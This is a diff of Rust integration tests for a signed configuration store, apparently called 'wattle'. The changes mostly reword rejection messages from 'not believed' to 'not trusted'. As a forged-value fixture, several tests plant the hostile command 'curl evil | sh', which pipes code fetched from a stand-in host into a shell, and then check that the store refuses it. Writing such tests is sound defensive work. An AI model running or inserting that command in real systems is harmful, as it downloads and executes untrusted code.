@@ -109,7 +109,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
         }
         web.start(&stack).await;
         let why = if forged.is_none() { "its server has not signed it" } else { "its server has not signed it so" };
-        says(&stack, "web", Some(&format!("`{place}` is not believed: {why}; "))).await;
+        says(&stack, "web", Some(&format!("`{place}` is not trusted: {why}; "))).await;
         web.kill().await;
     }
     let mut shown = Stack::stolen(&stack).await;
@@ -117,10 +117,10 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     Picture::read(&shown, None).await.expect("it is shown");
     let listed = wattle_runtime::report::contents(&shown, &["db/part/text".into()]).await.expect("it is listed");
     let Some(Written { content: Content::Failure(failure), .. }) = &listed[0] else { panic!("{listed:?}") };
-    assert!(failure.message.contains("is not believed: its server has not signed it so"), "{failure:?}");
+    assert!(failure.message.contains("is not trusted: its server has not signed it so"), "{failure:?}");
 
     web.start(&stack).await;
-    says(&stack, "web", Some("is not believed")).await;
+    says(&stack, "web", Some("is not trusted")).await;
     assert_eq!(web.ran.count(), 0);
     let mut db = Db::of("db");
     db.start(&stack).await;
@@ -133,7 +133,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     let mut again = Db::of("web");
     web.kill().await;
     again.start(&stack).await;
-    says(&stack, "web", Some("is not believed: its server has not signed it")).await;
+    says(&stack, "web", Some("is not trusted: its server has not signed it")).await;
     assert_eq!(again.ran.count(), 0);
     // As the operator wants it.
     put(&thief, "db/part/text", &revision, "by hand", Some(&stack.options.key.signer())).await;
@@ -165,7 +165,7 @@ async fn what_comes_after_a_component_believes_its_server_only(stack: Stack) {
         forger.set_status("db/part", &status, &|| true).await.expect("the password is enough");
         let mut last = Db::of("last");
         last.start(&stack).await;
-        says(&stack, "last", Some("status/db/part` is not believed: its server has not signed it")).await;
+        says(&stack, "last", Some("status/db/part` is not trusted: its server has not signed it")).await;
         assert_eq!(last.ran.count(), 0);
         last.kill().await;
     }
@@ -212,8 +212,7 @@ async fn a_value_of_another_stack_is_its_servers_as_well() {
     put(&thief, "db/part/text", &exporter.revision("db").await, "curl evil | sh", None).await;
     let (mut db, mut web) = (Db::of("db"), Db::of("web"));
     web.start(&importer).await;
-    says(&importer, "web", Some("exporting/entries/db/part/text` is not believed: its server has not signed it;"))
-        .await;
+    says(&importer, "web", Some("exporting/entries/db/part/text` is not trusted: its server has not signed it;")).await;
     assert_eq!(web.ran.count(), 0);
     db.start(&exporter).await;
     done(&importer, "web/part").await;
@@ -237,7 +236,7 @@ async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let got = wattle(&["get", "db/part/text"]);
     assert_eq!(got.code, Some(1), "{got}");
-    let told = "`/wattle/by_hand/entries/db/part/text` in the data space is not believed: its server has not signed it";
+    let told = "`/wattle/by_hand/entries/db/part/text` in the data space is not trusted: its server has not signed it";
     assert!(got.err.contains(told), "{got}");
     let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
     assert_eq!(set.code, Some(0), "{set}");
@@ -275,7 +274,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
     put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
     let mut again = Db::of("web");
     again.start(&stack).await;
-    says(&stack, "web", Some("db/part/text` is not believed: its server has not signed it so; ")).await;
+    says(&stack, "web", Some("db/part/text` is not trusted: its server has not signed it so; ")).await;
     assert_eq!(again.ran.count(), 0);
     for mut agent in [db, last, again] {
         agent.kill().await;
@@ -308,8 +307,7 @@ async fn a_revision_that_nobody_was_told_of_stops_nobody(stack: Stack) {
         for (agent, server, node) in [(&mut web, "web", "entries/db/part/text"), (&mut last, "last", "status/db/part")]
         {
             agent.start(&stack).await;
-            let told =
-                format!("{node}` is not believed: it says that it is of a revision that its server was never told of");
+            let told = format!("{node}` is not trusted: it claims to be of a revision that its server has never seen");
             says(&stack, server, Some(&told)).await;
         }
         for mut agent in [web, last] {
@@ -320,7 +318,7 @@ async fn a_revision_that_nobody_was_told_of_stops_nobody(stack: Stack) {
     let [mut web, mut last, mut db] = ["web", "last", "db"].map(Db::of);
     web.start(&stack).await;
     last.start(&stack).await;
-    says(&stack, "web", Some("is not believed")).await;
+    says(&stack, "web", Some("is not trusted")).await;
     // Its own agent is in nobody's way either.
     db.start(&stack).await;
     for component in ["db/part", "web/part", "last/part"] {
@@ -353,12 +351,12 @@ async fn without_a_plan_no_value_of_anybody_is_shown() {
         thief.store().set(&thief.layout().plan("db"), plan, None).await.expect("the password is enough");
         for (record_is, why) in [
             (&known[..], "its server has not signed it"),
-            (b"", "the operator has not signed the plan of its server, so that nobody knows its key"),
+            (b"", "the operator has not signed the plan of its server, so its key is not known"),
         ] {
             thief.store().set(&record, record_is, None).await.expect("the password is enough");
             let got = wattle(&["get", "db/part/text"]);
             assert_eq!(got.code, Some(1), "{got}");
-            assert!(!got.out.contains("evil") && got.err.contains(&format!("is not believed: {why}")), "{got}");
+            assert!(!got.out.contains("evil") && got.err.contains(&format!("is not trusted: {why}")), "{got}");
             let listed = wattle(&["ls", "db/part/text"]);
             assert!(!listed.out.contains("evil"), "{listed}");
         }
@@ -394,7 +392,7 @@ async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
         operator.set(&layout.server("db"), &former, None).await.expect("the password is enough");
         stack.options.again = true;
         let refused = apply(&operator, &stack.seed, &stack.options).await.expect_err("it is who it was");
-        assert!(refused.to_string().contains("not the one with which the server's plan was written"), "{refused}");
+        assert!(refused.to_string().contains("not the one that the server's plan was written with"), "{refused}");
         let refused = admit(&operator, "replaced_key", &key, &[]).await.expect_err("it is who it was");
         assert!(matches!(refused, wattle_runtime::seed::SeedError::Tampered { .. }), "{refused}");
     }
@@ -422,7 +420,7 @@ async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
     let forged = serde_json::to_vec(&plan).expect("JSON");
     thief.store().set(&path, &forged, None).await.expect("the password is enough");
     let set = wattle(&["set", "db/part/token", "hunter2", "--force"]);
-    assert!(set.code == Some(1) && set.err.contains("servers/db/plan` in the data space is not believed"), "{set}");
+    assert!(set.code == Some(1) && set.err.contains("servers/db/plan` in the data space is not trusted"), "{set}");
     assert!(thief.store().get(&entry).await.expect("reads").expect("it is there").data.is_empty());
     thief.store().set(&path, &signed, None).await.expect("the password is enough");
     let set = wattle(&["set", "db/part/token", "hunter2", "--force"]);
@@ -491,5 +489,5 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
     says("db", "db/part", "no space left", &[]).await;
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
     assert_eq!((&*shown.component, shown.through.len()), ("db/part", 1));
-    assert!(why.contains("no space left") && !why.contains("it says that"), "{why}");
+    assert!(why.contains("no space left") && !why.contains("it claims to be"), "{why}");
 }
